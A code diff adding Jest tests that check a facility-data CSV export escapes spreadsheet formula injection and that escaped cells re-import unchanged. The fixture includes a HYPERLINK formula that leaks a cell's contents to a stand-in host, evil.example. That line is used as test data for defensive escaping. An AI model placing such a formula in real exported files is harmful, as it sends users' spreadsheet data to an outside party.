@@ -100,3 +100,28 @@ describe('the Excel download', () => {
     for (const f of facilities) expect(byId.get(f.id), f.id).toEqual({ ...f, sourceCrs: 'wgs84' });
   });
 });
+
+describe('the CSV download opened in a spreadsheet', () => {
+  const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")';
+
+  test('neutralises cells that begin like a formula (=, +, -, @, tab, CR) with a leading apostrophe, and keeps codes and phones readable', async () => {
+    const [first] = await loadFacilities();
+    if (!first) throw new Error('no facility');
+    const f = Facility.parse({ ...first, name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注', operator: '@运营', source: '\t来源', address: '\r地址' });
+    const csv = facilitiesCsv([f], district);
+    const [, row = ''] = csv.split('\n');
+    // csv-stringify quotes a cell holding quotes or line breaks, doubling its quotes.
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""点此查看"")"`);
+    for (const cell of ["'+86 577 8800 1234", "'-备注", "'@运营"]) expect(row).toContain(cell);
+    expect(row).toContain(`,${f.region.townCode},`);
+    expect(row).not.toMatch(/(^|,)[=+\-@]/);
+  });
+
+  test('re-imports a neutralised cell as it was', async () => {
+    const [first] = await loadFacilities();
+    if (!first) throw new Error('no facility');
+    const f = Facility.parse({ ...first, name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注' });
+    const { facilities } = await reimport(facilitiesCsv([f], district));
+    expect(facilities[0]).toMatchObject({ name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注' });
+  });
+});
